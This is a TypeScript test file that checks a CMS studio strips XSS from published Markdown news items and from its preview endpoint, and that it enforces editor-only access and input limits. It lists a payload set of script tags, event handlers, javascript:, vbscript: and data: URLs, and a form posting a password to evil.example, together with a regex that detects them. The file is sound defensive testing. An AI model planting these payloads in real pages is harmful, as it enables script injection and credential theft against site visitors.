/**
 * Editor content cannot script: a news item saved and published through the studio with the
 * common payloads reaches the content API (and the built page) with none of them left, and the
 * studio's preview call renders with the site's renderer for editors only, saying what it removed.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { marked } from 'marked';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadContent } from '../../src/content/load.ts';
import type { BuildRequest } from '../../src/server/site/buildCommand.ts';
import { apiHeaders, createTestApp, testOrigin, type TestApp } from './harness.ts';

interface Envelope<T = Record<string, unknown>> {
  code: number;
  message: string;
  data: T;
}
interface Dropped {
  kind: string;
  tag: string;
  attribute?: string;
  scheme?: string | null;
  count: number;
}

let root: string;
let t: TestApp;
let editor: string;

/** The build writes one page per news item with its loaded body, as the site's detail page does. */
async function newsPages({ contentDir, outDir }: BuildRequest): Promise<void> {
  const content = loadContent(contentDir);
  mkdirSync(path.join(outDir, 'welcome/home'), { recursive: true });
  writeFileSync(path.join(outDir, 'welcome/home/index.html'), '<!doctype html><title>home</title>');
  for (const news of content.news) {
    mkdirSync(path.join(outDir, 'infomation/detail', news.newsId), { recursive: true });
    writeFileSync(
      path.join(outDir, 'infomation/detail', news.newsId, 'index.html'),
      `<!doctype html><title>${news.title}</title>${news.body}`,
    );
  }
}

async function call<T = Record<string, unknown>>(
  url: string,
  options: { body?: unknown; cookie?: string; locale?: string; headers?: Record<string, string> } = {},
): Promise<Envelope<T>> {
  const headers: Record<string, string> = {
    cookie: options.cookie ?? editor,
    'Accept-Language': options.locale ?? 'zh-CN',
  };
  const response =
    options.body === undefined
      ? await t.app.request(url, { headers })
      : await t.app.request(url, {
          method: 'POST',
          headers: options.headers ?? apiHeaders({ ...headers, 'Content-Type': 'application/json' }),
          body: JSON.stringify(options.body),
        });
  return (await response.json()) as Envelope<T>;
}

/** The six payloads an independent suite ran on a published news page, and more of their kind. */
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)><circle r="4"/></svg>',
  '[点击这里](javascript:alert(4))',
  '<iframe srcdoc="<script>alert(5)</script>"></iframe>',
  '<a href="JaVaScRiPt:alert(6)">mixed</a> <a href="&#106;avascript:alert(7)">entity</a>',
  '<details open ontoggle=alert(8)>x</details>',
  '| 列 | 值 |\n|---|---|\n| <img src=/x.png onerror=alert(9)> | 1 |',
  '<object data="javascript:alert(10)"></object><embed src="javascript:alert(11)"><style>body{display:none}</style>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(12))',
];
const markdownWithPayloads = `## 安全测试\n\n正文段落，**加粗**。\n\n${payloads.join('\n\n')}\n`;
/** A tag or attribute that can script, in HTML (text is escaped, so every `<` opens a real tag). */
const scripting =
  /<(script|svg|iframe|object|embed|style|form|details|input)\b|<[^>]*\s(on[a-z]+|srcdoc|style)\s*=|<[^>]*(javascript:|vbscript:|data:)/i;

it('every payload is live HTML when Markdown is rendered without sanitizing', () => {
  for (const payload of payloads)
    expect(marked.parse(payload, { async: false, gfm: true }), payload).toMatch(scripting);
});

async function finished(buildId: number): Promise<{ status: string; error: string | null }> {
  for (let attempt = 0; attempt < 400; attempt += 1) {
    const { data } = await call<{ status: string; error: string | null }>(`/api/studio/build?buildId=${buildId}`);
    if (data.status !== 'running') return data;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error('the build did not finish');
}

beforeAll(async () => {
  root = await mkdtemp(path.join(tmpdir(), 'hgd-studio-markdown-'));
  const oldDist = path.join(root, 'dist');
  mkdirSync(path.join(oldDist, 'welcome/home'), { recursive: true });
  writeFileSync(path.join(oldDist, 'welcome/home/index.html'), '<!doctype html><title>old site</title>');
  t = await createTestApp({
    staticDir: oldDist,
    env: { DATA_DIR: path.join(root, 'data') },
    deps: { siteBuild: { command: newsPages } },
  });
  editor = await t.login('demo_editor');
});

afterAll(async () => {
  await t.close();
  await rm(root, { recursive: true, force: true });
});

describe('a news item published through the studio', () => {
  it('reaches the content API and its page with no payload left, its legitimate Markdown intact', async () => {
    const data = {
      newsTypeCode: 'company',
      title: '安全测试新闻',
      date: '2026-11-25',
      source: '编辑部',
      summary: '带有脚本的正文不会出现在网站上。',
      body: markdownWithPayloads,
    };
    const saved = await call('/api/studio/item', { body: { path: 'news/studio-xss.md', data, revision: 0 } });
    expect(saved.code).toBe(200);
    const started = await call<{ buildId: number }>('/api/studio/publish', { body: { paths: ['news/studio-xss.md'] } });
    expect(started.code).toBe(200);
    expect(await finished(started.data.buildId)).toMatchObject({ status: 'succeeded', error: null });

    const detail = await call<{ title: string; body: string }>(
      '/api/front/external/hnyData/getNewsById?newsId=studio-xss',
    );
    expect(detail.code).toBe(200);
    expect(detail.data.title).toBe('安全测试新闻');
    expect(detail.data.body).not.toMatch(scripting);
    expect(detail.data.body).toContain('<h2>安全测试</h2>');
    expect(detail.data.body).toContain('<strong>加粗</strong>');
    expect(detail.data.body).toContain('点击这里');
    expect(detail.data.body).toContain('<img src="/x.png">');

    const page = await t.app.request('/infomation/detail/studio-xss/');
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain('<strong>加粗</strong>');
    expect(html).not.toMatch(scripting);
  });
});

describe('POST /api/studio/markdown: the preview', () => {
  it('is for editors and operators only, and a cross-site POST is refused', async () => {
    const body = { markdown: '**x**' };
    expect((await call('/api/studio/markdown', { body, cookie: '' })).code).toBe(901);
    expect((await call('/api/studio/markdown', { body, cookie: await t.login('demo_person') })).code).toBe(403);
    expect((await call('/api/studio/markdown', { body, cookie: await t.login('demo_partner') })).code).toBe(403);
    expect((await call('/api/studio/markdown', { body, cookie: await t.login('demo_operator') })).code).toBe(200);
    const crossSite = await call('/api/studio/markdown', {
      body,
      headers: {
        cookie: editor,
        'Content-Type': 'application/json',
        Origin: 'https://evil.example',
        'X-Requested-With': 'XMLHttpRequest',
      },
    });
    expect(crossSite.code).toBe(403);
    expect(testOrigin).not.toBe('https://evil.example');
  });

  it('answers the site’s rendering and what it removed', async () => {
    const answer = await call<{ html: string; dropped: Dropped[] }>('/api/studio/markdown', {
      body: { markdown: markdownWithPayloads },
    });
    expect(answer.code).toBe(200);
    expect(answer.data.html).toContain('<strong>加粗</strong>');
    expect(answer.data.html).not.toMatch(scripting);
    expect(answer.data.dropped).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'tag', tag: 'script' }),
        expect.objectContaining({ kind: 'attribute', tag: 'img', attribute: 'onerror', count: 2 }),
        expect.objectContaining({ kind: 'tag', tag: 'svg' }),
        expect.objectContaining({ kind: 'url', tag: 'a', attribute: 'href', scheme: 'javascript', count: 1 }),
        expect.objectContaining({ kind: 'tag', tag: 'iframe' }),
        expect.objectContaining({ kind: 'url', tag: 'a', attribute: 'href', scheme: 'data' }),
        expect.objectContaining({ kind: 'url', tag: 'a', attribute: 'href', scheme: 'vbscript' }),
      ]),
    );
    const clean = await call<{ html: string; dropped: Dropped[] }>('/api/studio/markdown', {
      body: { markdown: '# 标题\n\n- [x] 完成' },
    });
    expect(clean.data).toEqual({
      html: '<h1>标题</h1>\n<ul>\n<li><input checked="" disabled="" type="checkbox"> 完成</li>\n</ul>\n',
      dropped: [],
    });
    expect((await call<{ html: string }>('/api/studio/markdown', { body: { markdown: '' } })).data).toEqual({
      html: '',
      dropped: [],
    });
  });

  it('bad input is a 400 at the field, in the caller’s locale', async () => {
    const tooLong = await call<{ errors: { field: string; message: string }[] }>('/api/studio/markdown', {
      body: { markdown: 'x'.repeat(20_001) },
    });
    expect(tooLong.code).toBe(400);
    expect(tooLong.data.errors[0]?.field).toBe('markdown');
    expect(tooLong.data.errors[0]?.message).toMatch(/[\u4e00-\u9fff]/);
    const english = await call<{ errors: { field: string; message: string }[] }>('/api/studio/markdown', {
      body: { markdown: 42 },
      locale: 'en-US',
    });
    expect(english.code).toBe(400);
    expect(english.data.errors[0]).toMatchObject({ field: 'markdown' });
    expect(english.data.errors[0]?.message).toMatch(/^[A-Z][a-z]/);
    expect((await call('/api/studio/markdown', { body: {} })).code).toBe(400);
  });

  it('Markdown nested too deeply to render is a 400 at its field, in the preview and on save, and nothing is saved', async () => {
    const deep = `${'>'.repeat(19_000)} x`;
    const preview = await call<{ errors: { field: string; message: string }[] }>('/api/studio/markdown', {
      body: { markdown: deep },
    });
    expect(preview.code).toBe(400);
    expect(preview.data.errors).toEqual([{ field: 'markdown', message: expect.stringContaining('嵌套') }]);
    const data = {
      newsTypeCode: 'company',
      title: '嵌套过深',
      date: '2026-11-25',
      source: '编辑部',
      summary: '摘要。',
      body: deep,
    };
    const saved = await call<{ errors: { field: string; message: string }[] }>('/api/studio/item', {
      body: { path: 'news/studio-deep.md', data, revision: 0 },
      locale: 'en-US',
    });
    expect(saved.code).toBe(400);
    expect(saved.data.errors).toEqual([{ field: 'body', message: expect.stringMatching(/nests too deeply/) }]);
    expect((await call('/api/studio/item?path=news/studio-deep.md')).code).toBe(404);
  });
});
